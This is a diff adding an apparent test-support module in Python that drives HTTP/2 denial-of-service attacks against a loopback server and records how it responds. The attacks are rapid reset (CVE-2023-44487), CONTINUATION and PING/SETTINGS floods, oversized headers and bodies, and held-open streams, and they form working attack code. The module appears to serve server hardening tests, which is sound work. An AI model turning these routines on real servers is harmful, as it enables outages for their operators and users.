@@ -1,0 +1,246 @@
+"""Attacks on an HTTP/2 server, each bounded in count and in time, and the figures that they leave."""
+
+from __future__ import annotations
+
+import asyncio
+import ssl
+import struct
+import time
+from collections.abc import AsyncIterator, Callable
+from contextlib import AsyncExitStack, asynccontextmanager
+from typing import NamedTuple
+
+from hpack import Encoder
+from hyperframe.frame import PingFrame, RstStreamFrame, SettingsFrame
+
+from tests.support.h2_raw import CHECK, STREAM_CHECK, RawConnection, continuation, data, raw_connection
+
+CANCEL = 8
+INITIAL_WINDOW = 4
+
+
+class Target(NamedTuple):
+    """What is attacked: a port of the loopback, with TLS where a context is given."""
+
+    port: int
+    tls: ssl.SSLContext | None = None
+
+
+class Toll(NamedTuple):
+    """What an attack came to: what it sent, until when, and how the peer ended it.
+
+    ``sent`` counts what the attack is about (streams, frames); ``cut`` says that the peer closed the connection or said
+    GOAWAY, with ``code``; ``reset`` counts streams that the peer has reset, ``answered`` those that it ended by itself, and
+    ``good`` those of them with the status OK.
+    """
+
+    sent: int
+    seconds: float
+    cut: bool
+    code: int | None
+    reset: int
+    answered: int
+    good: int
+
+
+async def rapid_reset(target: Target, streams: int, key: str | None = None, within_s: float = 20.0) -> Toll:
+    """Open streams and cancel each at once (CVE-2023-44487)."""
+
+    async def attack(connection: RawConnection) -> int:
+        for sent in range(streams):
+            request = connection.request(key=key)
+            if not await connection.send(request, RstStreamFrame(request.stream_id, CANCEL)):
+                return sent
+        return streams
+
+    return await _on_one(target, attack, within_s)
+
+
+async def continuation_flood(target: Target, frames: int, within_s: float = 20.0) -> Toll:
+    """Begin a header block and go on with it without end (CVE-2024-24549 and its kin)."""
+    block = Encoder().encode([("x-filler", "f" * 8000)], huffman=False)
+
+    async def attack(connection: RawConnection) -> int:
+        request = connection.request(end_headers=False)
+        await connection.send(request)
+        for sent in range(frames):
+            if not await connection.send(continuation(request.stream_id, block)):
+                return sent
+        return frames
+
+    return await _on_one(target, attack, within_s)
+
+
+async def ping_flood(target: Target, frames: int, within_s: float = 20.0) -> Toll:
+    """Send PING after PING."""
+
+    async def attack(connection: RawConnection) -> int:
+        for sent in range(frames):
+            if not await connection.send(PingFrame(0, struct.pack(">Q", sent))):
+                return sent
+        return frames
+
+    return await _on_one(target, attack, within_s)
+
+
+async def settings_flood(target: Target, frames: int, within_s: float = 20.0) -> Toll:
+    """Send SETTINGS after SETTINGS, each of which wants an answer."""
+
+    async def attack(connection: RawConnection) -> int:
+        for sent in range(frames):
+            if not await connection.send(SettingsFrame(0, settings={INITIAL_WINDOW: 65_535})):
+                return sent
+        return frames
+
+    return await _on_one(target, attack, within_s)
+
+
+async def large_metadata(target: Target, streams: int, size: int, key: str | None = None, within_s: float = 20.0) -> Toll:
+    """Send requests with so many bytes of metadata, whole."""
+    # Never indexed: what a table holds would be sent by its number, and take no room.
+    block = Encoder().encode([("x-filler", "f" * size, True)], huffman=False)
+
+    async def attack(connection: RawConnection) -> int:
+        for sent in range(streams):
+            request = connection.request(end_headers=False, key=key)
+            rest = request.data + block
+            # A frame holds 16,384 bytes; the rest goes on in CONTINUATION.
+            request.data, rest = rest[:16_000], rest[16_000:]
+            last = continuation(request.stream_id, rest)
+            last.flags.add("END_HEADERS")
+            if not await connection.send(request, last):
+                return sent
+        return streams
+
+    return await _on_one(target, attack, within_s)
+
+
+async def oversize(target: Target, streams: int, size: int, key: str | None = None, within_s: float = 20.0) -> Toll:
+    """Announce a message of so many bytes, and begin to send it."""
+    head = struct.pack(">BI", 0, size)
+
+    async def attack(connection: RawConnection) -> int:
+        for sent in range(streams):
+            request = connection.request(key=key)
+            if not await connection.send(request, data(request.stream_id, head + bytes(256))):
+                return sent
+        return streams
+
+    return await _on_one(target, attack, within_s)
+
+
+async def _on_one(target: Target, attack: Callable[[RawConnection], object], within_s: float) -> Toll:
+    """Run an attack on a connection of its own, and wait a moment for how the peer takes it."""
+    began = time.monotonic()
+    async with raw_connection(*target) as connection:
+        try:
+            async with asyncio.timeout(within_s):
+                sent = await attack(connection)  # type: ignore[misc]
+                await connection.flush()
+        except TimeoutError:
+            sent = -1
+        took = time.monotonic() - began
+        await _settled(connection)
+        return _toll(sent, took, connection)
+
+
+async def _settled(connection: RawConnection, quiet_s: float = 0.15, within_s: float = 2.0) -> None:
+    """Wait until nothing has come back for a while, or the peer is gone."""
+    deadline = time.monotonic() + within_s
+    seen = -1
+    while seen != connection.seen.total() and not connection.closed.is_set() and time.monotonic() < deadline:
+        seen = connection.seen.total()
+        await asyncio.sleep(quiet_s)
+
+
+def _toll(sent: int, seconds: float, *connections: RawConnection) -> Toll:
+    codes = [each.goaway for each in connections if each.goaway is not None]
+    return Toll(
+        sent=sent,
+        seconds=seconds,
+        cut=all(each.closed.is_set() or each.goaway is not None for each in connections),
+        code=codes[0] if codes else None,
+        reset=sum(each.resets.total() for each in connections),
+        answered=sum(each.statuses.total() for each in connections),
+        good=sum(each.statuses["0"] for each in connections),
+    )
+
+
+class Siege:
+    """Streams that are held open on several connections."""
+
+    def __init__(self, connections: list[RawConnection], streams: list[tuple[RawConnection, int]], seconds: float) -> None:
+        self._connections = connections
+        self._streams = streams
+        self._began = time.monotonic() - seconds
+
+    @property
+    def places(self) -> int | None:
+        """How many streams the peer allows on a connection; None before it has said so."""
+        return self._connections[0].places
+
+    async def drip(self) -> int:
+        """Send one byte more on each stream; gives how many connections still take it."""
+        for connection, stream in self._streams:
+            await connection.send(data(stream, b"\0"))
+        return sum([await each.flush() for each in self._connections])
+
+    def toll(self) -> Toll:
+        return _toll(len(self._streams), time.monotonic() - self._began, *self._connections)
+
+
+@asynccontextmanager
+async def held_open(
+    target: Target,
+    connections: int,
+    streams: int,
+    *,
+    path: str = CHECK,
+    key: str | None = None,
+    begin_body: bool = False,
+) -> AsyncIterator[Siege]:
+    """Hold streams open that send headers, and where the body begins, a few bytes of it."""
+    began = time.monotonic()
+    async with AsyncExitStack() as stack:
+        opened = [await stack.enter_async_context(raw_connection(*target)) for _ in range(connections)]
+        held = []
+        for connection in opened:
+            for _ in range(streams):
+                request = connection.request(path, key=key)
+                held.append((connection, request.stream_id))
+                await connection.send(request)
+                if begin_body:
+                    await connection.send(data(request.stream_id, struct.pack(">BI", 0, 1000)))
+            await connection.flush()
+        for connection in opened:
+            await _settled(connection, quiet_s=0.1)
+        yield Siege(opened, held, time.monotonic() - began)
+
+
+@asynccontextmanager
+async def connections_held(target: Target, count: int) -> AsyncIterator[list[RawConnection]]:
+    """Hold connections open that do nothing; those refused are left out."""
+    async with AsyncExitStack() as stack:
+        opened = []
+        for _ in range(count):
+            try:
+                opened.append(await stack.enter_async_context(raw_connection(*target)))
+            except OSError:
+                continue
+        yield opened
+
+
+__all__ = [
+    "STREAM_CHECK",
+    "Siege",
+    "Target",
+    "Toll",
+    "connections_held",
+    "continuation_flood",
+    "held_open",
+    "large_metadata",
+    "oversize",
+    "ping_flood",
+    "rapid_reset",
+    "settings_flood",
+]
